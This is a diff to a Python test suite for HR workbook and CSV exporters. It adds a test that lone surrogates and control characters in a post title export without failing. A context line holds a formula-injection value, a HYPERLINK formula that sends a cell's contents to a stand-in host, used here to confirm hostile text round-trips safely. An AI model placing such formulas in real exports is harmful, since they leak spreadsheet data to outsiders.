@@ -143,3 +143,16 @@ def test_text_that_looks_like_excels_escapes_comes_back_as_typed(tmp_path: Path)
     assert back.post("COO").title == "Head _x0041_ of OD"
     assert back.post("COO").notes == "line one\nline two"
     assert back.post("DSC").title == '+HYPERLINK("http://evil/?x="&A1)'
+
+
+def test_a_lone_surrogate_or_control_character_in_a_title_is_written_not_fatal(tmp_path: Path) -> None:
+    """Text pasted from old systems can hold what no file can encode; every writer still writes it all."""
+    document = hostile()
+    document.scenario("Proposed").structure.apply(UpdatePost("COO", {"title": "Chief\ud800 Operating\x07 Officer"}))
+    out, senior, tiers = tmp_path / "hr.xlsx", tmp_path / "s.csv", tmp_path / "t.csv"
+    hr_workbook.export_workbook(document, out)
+    organogram.export_organogram(document, senior, None)
+    transparency.export_transparency(document, tiers)
+    assert "Chief\ufffd Operating Officer" in {c.value for c in _cells(out)}
+    for path in (senior, tiers):
+        assert "Chief\ufffd Operating Officer" in path.read_text(encoding="utf-8-sig")
